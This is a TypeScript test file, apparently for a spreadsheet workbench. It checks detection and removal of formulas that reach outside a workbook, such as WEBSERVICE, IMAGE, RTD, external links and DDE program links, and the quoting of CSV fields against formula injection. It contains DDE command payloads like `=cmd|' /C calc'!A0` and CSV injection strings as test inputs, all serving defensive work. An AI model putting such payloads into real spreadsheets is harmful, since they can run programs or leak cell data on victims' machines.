@@ -1,0 +1,158 @@
+import { MAIN, relationship, relationships, sheetXml, textOf, workbookBytes } from '../testing/package-parts';
+import { readCsv } from 'excel-workbench/csv/csv';
+import {
+  outsideFormulas,
+  outsideNames,
+  reachesOutside,
+  withoutOutside,
+  type OtherBook,
+} from '../src/outside';
+import { readXlsx } from '../src/read-xlsx';
+import { saveXlsx } from '../testing/save-xlsx';
+
+const otherBooks: OtherBook[] = [
+  { target: 'http://example.com/a.xlsx', program: false },
+  { target: 'Book2.xlsx', program: false },
+  { target: 'cmd /C calc', program: true },
+  { target: 'file:///C:/here/b.xlsx', program: false },
+  { target: 'file://server/share/b.xlsx', program: false },
+];
+
+test.each([
+  ['=WEBSERVICE("http://example.com/"&A1)', 'WEBSERVICE'],
+  ['=_xlfn.WEBSERVICE(A1)', 'WEBSERVICE'],
+  ['=1+webservice (A1)', 'WEBSERVICE'],
+  ['=IF(A1,IMAGE("x"),2)', 'IMAGE'],
+  ['=_xlfn._xlws.PY(0,1)', 'PY'],
+  ['=RTD("prog",,"x")', 'RTD'],
+  ["=cmd|' /C calc'!A0", 'a link to a program (DDE)'],
+  ["='cmd'|'/C calc'!'A0'", 'a link to a program (DDE)'],
+  ['=MSEXCEL|x!A1', 'a link to a program (DDE)'],
+  ["='http://example.com/[b.xlsx]S'!A1", 'http://example.com/b.xlsx'],
+  ['=[http://example.com/b.xlsx]S!A1', 'http://example.com/b.xlsx'],
+  ["=SUM('\\\\server\\share\\[b.xlsx]S'!A1:A9)", '\\\\server\\share\\b.xlsx'],
+  ['=[1]S!A1', 'http://example.com/a.xlsx'],
+  ["='[1]My sheet'!A1", 'http://example.com/a.xlsx'],
+  ['=[1]!Name', 'http://example.com/a.xlsx'],
+  ["=[3]!'A0'", 'a link to a program (cmd /C calc)'],
+  ['=[5]S!A1', 'file://server/share/b.xlsx'],
+  ['=1+leak', 'the name leak'],
+])('%s reaches %s', (formula, reaches) => {
+  expect(reachesOutside(formula, { otherBooks, names: new Set(['LEAK']) })).toBe(reaches);
+});
+
+test.each([
+  '=SUM(A1:A9)',
+  '=SHARIAH.HALAL_STATUS(A2)',
+  '="WEBSERVICE(1) cmd|x!A0 http://example.com/[b.xlsx]"',
+  '=HYPERLINK("http://example.com/?"&A1,"x")',
+  '=ENCODEURL(A1)',
+  "='P|L'!A1",
+  '=Table1[[#This Row],[http://x]]',
+  '=Table1[a|b]',
+  '=[2]S!A1',
+  '=[4]S!A1',
+  "='C:\\here\\[b.xlsx]S'!A1",
+  '=WEBSERVICE',
+  '=IMAGES(1)',
+])('%s stays inside', (formula) => {
+  expect(reachesOutside(formula, { otherBooks })).toBeUndefined();
+});
+
+test('names reach outside by way of others', () => {
+  const names = [
+    { name: 'Third', refersTo: '=Second&"x"' },
+    { name: 'Second', refersTo: '=first' },
+    { name: 'First', refersTo: '=IMAGE("http://example.com/")' },
+    { name: 'Other', refersTo: '=Sheet1!$A$1' },
+  ];
+  expect(outsideNames(names).sort()).toEqual(['FIRST', 'SECOND', 'THIRD']);
+});
+
+test('a workbook is saved with values, or texts, in the place of formulas that reach outside', () => {
+  const cell = (at: string, formula: string, value = '') => `<c r="${at}">${formula}${value}</c>`;
+  const file = workbookBytes({
+    sheets: [
+      {
+        name: 'S',
+        xml: sheetXml(
+          '<row r="1">' +
+            cell('A1', '<f>_xlfn.WEBSERVICE("http://example.com/")</f>', '<v>7</v>') +
+            cell('B1', '<f>[1]S!A1</f>', '<v>8</v>') +
+            cell('C1', '<f>_hidden</f>') +
+            cell('D1', '<f>SUM(A1:B1)</f>', '<v>15</v>') +
+            '</row>',
+        ),
+      },
+    ],
+    workbook:
+      '<externalReferences><externalReference r:id="rId50"/></externalReferences>' +
+      '<definedNames><definedName name="_hidden" hidden="1">_xlfn.IMAGE("http://example.com/")</definedName></definedNames>',
+    relationships: relationship('rId50', 'externalLink', 'externalLinks/externalLink1.xml'),
+    parts: {
+      'xl/externalLinks/externalLink1.xml': `<externalLink xmlns="${MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>`,
+      'xl/externalLinks/_rels/externalLink1.xml.rels': relationships(''),
+    },
+    types: {
+      'xl/externalLinks/externalLink1.xml':
+        'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
+    },
+  });
+  const read = readXlsx(file);
+  expect(outsideFormulas(read)).toEqual([
+    { sheet: 'S', row: 0, column: 0, reaches: 'WEBSERVICE' },
+    { sheet: 'S', row: 0, column: 1, reaches: 'a link to a program (cmd /C calc)' },
+    { sheet: 'S', row: 0, column: 2, reaches: 'the name _hidden' },
+  ]);
+  const saved = saveXlsx(withoutOutside(read, read), { original: file, before: read });
+  expect(readXlsx(saved).sheets[0]!.cells).toEqual([
+    { row: 0, column: 0, value: 7 },
+    { row: 0, column: 1, value: 8 },
+    { row: 0, column: 2, value: '=_hidden' },
+    { row: 0, column: 3, value: 15, formula: '=SUM(A1:B1)' },
+  ]);
+});
+
+describe('a .csv that is data', () => {
+  const fields = ['=1+1', "=cmd|' /C calc'!A0", '+1+cmd', '-2+cmd', '@SUM(A1)', '="007"', '-5', '=AAPL'];
+  const csv = Buffer.from(fields.map((field) => `"${field.replaceAll('"', '""')}"`).join('\n'));
+
+  // Before, what begins with = became a live formula, in the workbench and in the saved workbook.
+  test('has no formulas: what looks like one is text, and a text in the clothes of one is that text', () => {
+    const read = readCsv(csv, { formulas: false });
+    expect(read.sheets[0]!.cells.map(({ value, formula }) => formula ?? value)).toEqual([
+      '=1+1',
+      "=cmd|' /C calc'!A0",
+      '+1+cmd',
+      '-2+cmd',
+      '@SUM(A1)',
+      '007',
+      -5,
+      '=AAPL',
+    ]);
+    expect(read.sheets[0]!.cells.filter(({ formula }) => formula !== undefined)).toEqual([]);
+  });
+
+  test('is saved so that Excel does not make a formula of it when somebody edits the cell', () => {
+    const bytes = saveXlsx(readCsv(csv, { formulas: false }));
+    const again = readXlsx(bytes);
+    expect(again.sheets[0]!.cells.map(({ value }) => value)).toEqual([
+      ...fields.slice(0, 5),
+      '007',
+      -5,
+      '=AAPL',
+    ]);
+    const styles = textOf(bytes, 'xl/styles.xml');
+    const sheet = textOf(bytes, 'xl/worksheets/sheet1.xml');
+    const quoted = [...styles.matchAll(/<cellXfs.*<\/cellXfs>/gs)][0]![0].match(/<xf [^>]*>/g)!;
+    const format = quoted.findIndex((xf) => xf.includes('quotePrefix="1"'));
+    expect([...sheet.matchAll(new RegExp(`<c r="(A\\d)" s="${format}"`, 'g'))].map(([, at]) => at)).toEqual([
+      'A1',
+      'A2',
+      'A3',
+      'A4',
+      'A5',
+      'A8',
+    ]);
+  });
+});
